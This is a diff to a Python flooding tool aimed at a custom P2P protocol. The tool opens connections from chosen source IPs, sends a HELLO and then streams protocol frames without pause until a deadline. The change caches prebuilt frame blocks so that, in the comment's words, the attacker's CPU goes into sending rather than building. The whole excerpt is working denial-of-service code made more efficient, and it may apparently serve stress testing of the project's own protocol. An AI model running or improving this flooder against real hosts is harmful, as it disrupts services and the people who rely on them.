@@ -16,6 +16,7 @@ import time
 HEADER = struct.Struct(">IB")
 HELLO, BITFIELD, HAVE, REQUEST, PIECES, REJECT, GET_META, META, PEERS, STATUS_REQ = range(10)
 BLOCK_BYTES = 64 << 10  # one sendall's worth of frames
+BLOCKS = 4  # made once per connection and cycled: the attacker's CPU goes into sending, not building
 
 
 def frame(kind, payload=b""):
@@ -45,13 +46,16 @@ def frames(kind, n_pieces, rng):
 def flood(host, port, meta_id, n_pieces, kind, source_ip, until):
     rng = random.Random(source_ip)
     hello = frame(HELLO, b"P2PS\x01" + os.urandom(8) + struct.pack(">H", 7000) + meta_id)
+    blocks = [frames(kind, n_pieces, rng) for _ in range(BLOCKS)]
     while time.monotonic() < until:
         try:
             with socket.create_connection((host, port), timeout=2, source_address=(source_ip, 0)) as s:
                 s.sendall(hello)
                 s.settimeout(max(0.1, until - time.monotonic()))
+                i = 0
                 while time.monotonic() < until:
-                    s.sendall(frames(kind, n_pieces, rng))
+                    s.sendall(blocks[i % BLOCKS])
+                    i += 1
         except OSError:
             time.sleep(0.05)
 
